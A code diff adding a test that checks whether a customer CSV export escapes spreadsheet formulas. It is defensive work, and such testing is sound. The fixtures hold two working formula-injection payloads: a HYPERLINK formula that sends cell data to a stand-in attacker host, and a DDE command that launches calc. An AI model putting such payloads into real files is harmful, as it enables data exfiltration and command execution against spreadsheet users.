@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { beforeAll, describe, expect, it } from "vitest";
 import { withTenant } from "../../db/tenant";
 import { newId } from "../../lib/ids";
@@ -322,6 +323,24 @@ describe("CSV", () => {
       dryRun: true,
     });
     expect(again).toMatchObject({ valid: 2, problems: [] });
+  });
+
+  it("export escapes every cell a spreadsheet would run as a formula, + and - included", async () => {
+    const hostile = '-1+HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    await staff.customers.create({
+      firstName: hostile,
+      lastName: "+cmd|' /C calc'!A0",
+      email: "formula@example.com",
+      phone: "+254712345678",
+      tags: ["formula"],
+    });
+    const exported = await staff.customers.exportCsv({ tag: "formula" });
+    const rows = Papa.parse<Record<string, string>>(exported.csv, { header: true, skipEmptyLines: true }).data;
+    expect(rows).toHaveLength(1);
+    const [only] = rows;
+    expect(only.firstName).toBe(`'${hostile}`);
+    expect(only.lastName).toBe("'+cmd|' /C calc'!A0");
+    expect(only.phone).toBe("+254712345678");
   });
 
   it("imported customers take consecutive account numbers in file order, and numbering continues after them", async () => {
